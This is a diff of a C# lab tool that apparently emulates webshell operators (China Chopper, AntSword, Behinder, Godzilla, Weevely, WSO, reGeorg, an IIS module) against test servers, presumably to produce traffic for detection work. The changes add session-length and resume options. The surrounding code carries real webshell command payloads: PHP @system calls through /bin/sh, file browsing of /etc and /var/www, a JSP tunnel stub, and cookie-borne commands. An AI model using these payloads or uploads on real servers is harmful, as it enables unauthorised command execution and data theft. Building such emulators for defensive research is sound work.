@@ -52,7 +52,7 @@ public static class Operators
         ["regeorg"] = "<%@page import=\"java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel, java.util.Arrays, java.io.IOException\" %><% String cmd = request.getHeader(\"X-CMD\"); if (cmd != null) { response.setHeader(\"X-STATUS\", \"OK\"); /* reGeorg tunnel.jsp */ } else { out.print(\"Georg says, 'All seems fine'\"); } %>",
     };
 
-    private static async Task Upload(LabContext ctx, LabClient client, Random random, string family, string shellName)
+    private static async Task Upload(LabContext ctx, LabClient client, Random random, string family, string shellName, string? tag = null)
     {
         var (serverName, path) = Location(family, shellName);
         var server = ctx.Server(serverName);
@@ -64,11 +64,14 @@ public static class Operators
         file.Headers.ContentType = new MediaTypeHeaderValue(family is "behinder" or "regeorg" ? "application/octet-stream" : "application/x-php");
         FormParts.Add(form, file, "file", fileName);
         var uploader = serverName == "tomcat" ? "/examples/jsp/upload.jsp" : "/lib/plugins/labupload/upload.php";
-        await client.SendAsync(server, HttpMethod.Post, uploader, family, "upload", form, [("Accept", "text/html,*/*")]);
+        await client.SendAsync(server, HttpMethod.Post, uploader, tag ?? family, "upload", form, [("Accept", "text/html,*/*")]);
         await ctx.Think(random, 3);
     }
 
     private static string[] PickCommands(Random random, int n) => Enumerable.Range(0, n).Select(_ => Commands[random.Next(Commands.Length)]).ToArray();
+
+    /// <summary>The session's commands: the tool's own short session, or as many as the run asks for.</summary>
+    private static string[] PickCommands(LabContext ctx, Random random, int n) => PickCommands(random, ctx.SessionRequests > 0 ? ctx.SessionRequests : n);
 
     // ------------------------------------------------------------------ plain ?cmd= shell
 
@@ -78,7 +81,8 @@ public static class Operators
         var server = ctx.Server(serverName);
         await Upload(ctx, client, random, "cmd", shellName);
         await client.SendAsync(server, HttpMethod.Get, path, "cmd", "first_contact");
-        foreach (var command in PickCommands(random, 6 + random.Next(6)))
+        await ctx.Resume(client);
+        foreach (var command in PickCommands(ctx, random, 6 + random.Next(6)))
         {
             if (random.Next(3) == 0)
                 await client.SendAsync(server, HttpMethod.Post, path, "cmd", "command", new FormUrlEncodedContent([new("cmd", command)]));
@@ -106,8 +110,9 @@ public static class Operators
         }
         // First contact: the "info" call returns the script directory and the drives.
         await Send("first_contact", "$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);if($D==\"\")$D=dirname($_SERVER[\"PATH_TRANSLATED\"]);$R=\"{$D}\\t\";if(substr($D,0,1)!=\"/\"){foreach(range(\"A\",\"Z\") as $L)if(is_dir(\"{$L}:\"))$R.=\"{$L}:\";}$R.=\"\\t\";$u=(function_exists('posix_getegid'))?@posix_getpwuid(@posix_geteuid()):'';$usr=($u)?$u['name']:@get_current_user();$R.=php_uname();$R.=\"({$usr})\";print $R;");
+        await ctx.Resume(client);
         await Send("file_browse", "$D=base64_decode($_POST[\"z1\"]);$F=@opendir($D);if($F==NULL){echo(\"ERROR:// Path Not Found Or No Permission!\");}else{$M=NULL;$L=NULL;while($N=@readdir($F)){$P=$D.\"/\".$N;$T=@date(\"Y-m-d H:i:s\",@filemtime($P));@$E=substr(base_convert(@fileperms($P),10,8),-4);$R=\"\\t\".$T.\"\\t\".@filesize($P).\"\\t\".$E.\"\\n\";if(@is_dir($P))$M.=$N.\"/\".$R;else $L.=$N.$R;}echo $M.$L;@closedir($F);};", ("z1", B64("/var/www/")));
-        foreach (var command in PickCommands(random, 5 + random.Next(5)))
+        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
             await Send("command", "$p=base64_decode($_POST[\"z1\"]);$s=base64_decode($_POST[\"z2\"]);$d=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$c=substr($d,0,1)==\"/\"?\"-c \\\"{$s}\\\"\":\"/c \\\"{$s}\\\"\";$r=\"{$p} {$c}\";@system($r.\" 2>&1\",$ret);print ($ret!=0)?\"ret={$ret}\":\"\";",
                 ("z1", B64("/bin/sh")), ("z2", B64($"cd \"/var/www/\";{command};echo [S];pwd;echo [E]")));
         await Send("file_download", "$F=get_magic_quotes_gpc()?stripslashes($_POST[\"z1\"]):$_POST[\"z1\"];$fp=@fopen($F,\"r\");if(@fgetc($fp)){@fclose($fp);@readfile($F);}else{echo(\"ERROR:// Can Not Read\");};", ("z1", "lab-notes.txt"));
@@ -119,8 +124,8 @@ public static class Operators
     {
         var (serverName, path) = Location("antsword", shellName);
         var server = ctx.Server(serverName);
-        await Upload(ctx, client, random, "antsword", shellName);
         var encoder = new[] { "base64", "rot13", "hex" }[random.Next(3)];
+        await Upload(ctx, client, random, "antsword", shellName, "antsword/" + encoder);
         var agents = UserAgents.Browsers;
         async Task Send(string phase, string code, Dictionary<string, string>? args = null)
         {
@@ -137,15 +142,16 @@ public static class Operators
             };
             var fields = new List<KeyValuePair<string, string>> { new("ant", wrapper), new(dataParam, encoded) };
             foreach (var (name, value) in args ?? new()) fields.Add(new(name, Hex(random, 1) + B64(value)));
-            await client.SendAsync(server, HttpMethod.Post, path, "antsword", phase, new FormUrlEncodedContent(fields),
+            await client.SendAsync(server, HttpMethod.Post, path, "antsword/" + encoder, phase, new FormUrlEncodedContent(fields),
                 [("Accept", "*/*"), ("Accept-Language", "zh-CN,zh;q=0.9")]);
             await ctx.Think(random, 2);
         }
         _ = agents;
         await Send("first_contact", "$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);if($D==\"\")$D=dirname($_SERVER[\"PATH_TRANSLATED\"]);$R=\"{$D}\t\";if(substr($D,0,1)!=\"/\"){foreach(range(\"C\",\"Z\")as $L)if(is_dir(\"{$L}:\"))$R.=\"{$L}:\";}else{$R.=\"/\";}$R.=\"\t\";$u=(function_exists(\"posix_getegid\"))?@posix_getpwuid(@posix_geteuid()):\"\";$s=($u)?$u[\"name\"]:@get_current_user();$R.=php_uname();$R.=\"\t{$s}\";echo $R;;");
+        await ctx.Resume(client);
         await Send("file_browse", "$D=base64_decode(substr($_POST[\"k8\"],2));$F=@opendir($D);if($F==NULL){echo(\"ERROR:// Path Not Found Or No Permission!\");}else{$M=NULL;$L=NULL;while($N=@readdir($F)){$P=$D.$N;$T=@date(\"Y-m-d H:i:s\",@filemtime($P));@$E=substr(base_convert(@fileperms($P),10,8),-4);$R=\"\t\".$T.\"\t\".@filesize($P).\"\t\".$E.\"\n\";if(@is_dir($P))$M.=$N.\"/\".$R;else $L.=$N.$R;}echo $M.$L;@closedir($F);};",
             new() { ["k8"] = "/var/www/" });
-        foreach (var command in PickCommands(random, 5 + random.Next(5)))
+        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
             await Send("command", "$p=base64_decode(substr($_POST[\"x1\"],2));$s=base64_decode(substr($_POST[\"x2\"],2));$envstr=@base64_decode(substr($_POST[\"x3\"],2));$d=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$c=substr($d,0,1)==\"/\"?\"-c \\\"{$s}\\\"\":\"/c \\\"{$s}\\\"\";if(substr($d,0,1)==\"/\"){@putenv(\"PATH=\".getenv(\"PATH\").\":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\");}$r=\"{$p} {$c}\";$ret=@system($r.\" 2>&1\");",
                 new() { ["x1"] = "/bin/sh", ["x2"] = $"cd \"/var/www\";{command};echo {Hex(random, 3)};pwd;echo {Hex(random, 3)}", ["x3"] = "" });
     }
@@ -170,8 +176,9 @@ public static class Operators
         }
         await Send("first_contact", "net/rebeyond/behinder/payload/java/Echo", new() { ["content"] = Hex(random, 20) });
         await Send("first_contact", "net/rebeyond/behinder/payload/java/BasicInfo", new() { ["whatever"] = Hex(random, 8) });
+        await ctx.Resume(client);
         await Send("file_browse", "net/rebeyond/behinder/payload/java/FileOperation", new() { ["mode"] = "list", ["path"] = "/var/lib/tomcat10/" });
-        foreach (var command in PickCommands(random, 5 + random.Next(5)))
+        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
             await Send("command", "net/rebeyond/behinder/payload/java/Cmd", new() { ["cmd"] = command, ["path"] = "/" });
     }
 
@@ -203,7 +210,7 @@ public static class Operators
         async Task Send(string phase, byte[] data)
         {
             var body = "pass=" + Uri.EscapeDataString(Convert.ToBase64String(Xor(data, key, offsetByOne: true)));
-            await client.SendAsync(server, HttpMethod.Post, path, "godzilla", phase, new StringContent(body, Encoding.ASCII, "application/x-www-form-urlencoded"), headers);
+            await client.SendAsync(server, HttpMethod.Post, path, "godzilla", phase, Raw(Encoding.ASCII.GetBytes(body), "application/x-www-form-urlencoded"), headers);
             await ctx.Think(random, 2);
         }
         // First request: the whole payload (a large PHP class body) that the shell keeps in the session.
@@ -213,12 +220,13 @@ public static class Operators
         await Send("first_contact", Encoding.ASCII.GetBytes(payload.ToString()));
         await Send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "test" })));
         await Send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "getBasicsInfo" })));
+        await ctx.Resume(client);
         await Send("file_browse", Gzip(GodzillaParams(new() { ["methodName"] = "getFile", ["dirName"] = "/var/www/" })));
-        foreach (var command in PickCommands(random, 5 + random.Next(5)))
+        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
             await Send("command", Gzip(GodzillaParams(new() { ["methodName"] = "execCommand", ["cmdLine"] = $"sh -c \"cd \"/var/www/\";{command}\" 2>&1" })));
     }
 
-    private static byte[] GodzillaParams(Dictionary<string, string> parameters)
+    internal static byte[] GodzillaParams(Dictionary<string, string> parameters)
     {
         var ms = new MemoryStream();
         foreach (var (name, value) in parameters)
@@ -246,14 +254,15 @@ public static class Operators
             var data = Convert.ToBase64String(Xor(Zlib(Encoding.UTF8.GetBytes(php)), key, offsetByOne: false));
             // The payload hides between the two markers, wrapped in random printable junk.
             var body = RandomPrintable(random, 10 + random.Next(60)) + kh + data + kf + RandomPrintable(random, 10 + random.Next(60));
-            await client.SendAsync(server, HttpMethod.Post, path, "weevely", phase, new StringContent(body, Encoding.ASCII, "application/x-www-form-urlencoded"),
+            await client.SendAsync(server, HttpMethod.Post, path, "weevely", phase, Raw(Encoding.ASCII.GetBytes(body), "application/x-www-form-urlencoded"),
                 [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Referer", $"http://{server.Host}/doku.php?id={Hex(random, 6)}")]);
             await ctx.Think(random, 2);
         }
         await Send("first_contact", "echo(1);");
         await Send("first_contact", "print(@getcwd());print(\"\\n\");print(@php_uname());");
+        await ctx.Resume(client);
         await Send("file_browse", "$p=\"/var/www/\";if(@is_dir($p)){$d=@opendir($p);$a=array();if($d){while(($f=@readdir($d))){$a[]=$f;};sort($a);print(join(PHP_EOL,$a));}}");
-        foreach (var command in PickCommands(random, 5 + random.Next(5)))
+        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
             await Send("command", $"@system('{command} 2>&1');");
     }
 
@@ -267,6 +276,7 @@ public static class Operators
         (string, string)[] headers = [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Referer", $"http://{server.Host}{path}")];
         await client.SendAsync(server, HttpMethod.Get, path, "wso", "first_contact", headers: headers);
         await client.SendAsync(server, HttpMethod.Post, path, "wso", "login", new FormUrlEncodedContent([new("pass", "root")]), headers);
+        await ctx.Resume(client);
         async Task Action(string phase, string a, string c, string p1 = "", string p2 = "", string p3 = "")
         {
             await client.SendAsync(server, HttpMethod.Post, path, "wso", phase,
@@ -277,7 +287,7 @@ public static class Operators
         await Action("file_browse", "FilesMan", "/etc/");
         await Action("file_download", "FilesTools", "/var/www/", "lab-notes.txt", "view");
         await Action("command", "SecInfo", "/var/www/");
-        foreach (var command in PickCommands(random, 4 + random.Next(4)))
+        foreach (var command in PickCommands(ctx, random, 4 + random.Next(4)))
             await Action("command", "Console", "/var/www/", command);
         await Action("file_upload", "FilesMan", "/var/www/", "mkfile", "readme.txt");
     }
@@ -290,6 +300,7 @@ public static class Operators
         var server = ctx.Server(serverName);
         await Upload(ctx, client, random, "regeorg", shellName);
         await client.SendAsync(server, HttpMethod.Get, path, "regeorg", "first_contact", headers: [("Accept", "*/*")]);
+        await ctx.Resume(client);
         var sessions = 2 + random.Next(2);
         for (var s = 0; s < sessions && DateTime.UtcNow < ctx.Deadline.AddSeconds(30); s++)
         {
@@ -325,7 +336,8 @@ public static class Operators
         (string, string)[] browser = [("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5")];
         // The module is installed on the server already: the operator only talks to it, hidden in page requests.
         await client.SendAsync(server, HttpMethod.Get, "/", "iis-module", "first_contact", headers: browser.Append(("Cookie", "RGSESSION=" + Uri.EscapeDataString(B64("whoami")))), sendCookies: false);
-        foreach (var command in PickCommands(random, 6 + random.Next(6)))
+        await ctx.Resume(client);
+        foreach (var command in PickCommands(ctx, random, 6 + random.Next(6)))
         {
             await client.SendAsync(server, HttpMethod.Get, pages[random.Next(pages.Length)], "iis-module", "command",
                 headers: browser.Append(("Cookie", "RGSESSION=" + Uri.EscapeDataString(B64(command)))), sendCookies: false);
@@ -335,17 +347,25 @@ public static class Operators
 
     // ------------------------------------------------------------------ helpers
 
-    private static string B64(string s) => Convert.ToBase64String(Encoding.UTF8.GetBytes(s));
-    private static string Hex(Random random, int bytes) { var b = new byte[bytes]; random.NextBytes(b); return Convert.ToHexStringLower(b); }
+    /// <summary>A body with exactly this Content-Type (StringContent would add "; charset=", which the tools do not send).</summary>
+    internal static ByteArrayContent Raw(byte[] body, string contentType)
+    {
+        var content = new ByteArrayContent(body);
+        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
+        return content;
+    }
 
-    private static string Rot13(string s) => new(s.Select(c => c switch
+    internal static string B64(string s) => Convert.ToBase64String(Encoding.UTF8.GetBytes(s));
+    internal static string Hex(Random random, int bytes) { var b = new byte[bytes]; random.NextBytes(b); return Convert.ToHexStringLower(b); }
+
+    internal static string Rot13(string s) => new(s.Select(c => c switch
     {
         >= 'a' and <= 'z' => (char)('a' + (c - 'a' + 13) % 26),
         >= 'A' and <= 'Z' => (char)('A' + (c - 'A' + 13) % 26),
         _ => c,
     }).ToArray());
 
-    private static string RandomPrintable(Random random, int n)
+    internal static string RandomPrintable(Random random, int n)
     {
         const string chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
         return new string(Enumerable.Range(0, n).Select(_ => chars[random.Next(chars.Length)]).ToArray());
@@ -366,7 +386,7 @@ public static class Operators
         return encrypt ? aes.EncryptEcb(data, PaddingMode.PKCS7) : aes.DecryptEcb(data, PaddingMode.PKCS7);
     }
 
-    private static byte[] Gzip(byte[] data)
+    internal static byte[] Gzip(byte[] data)
     {
         var ms = new MemoryStream();
         using (var z = new GZipStream(ms, CompressionLevel.Optimal)) z.Write(data);
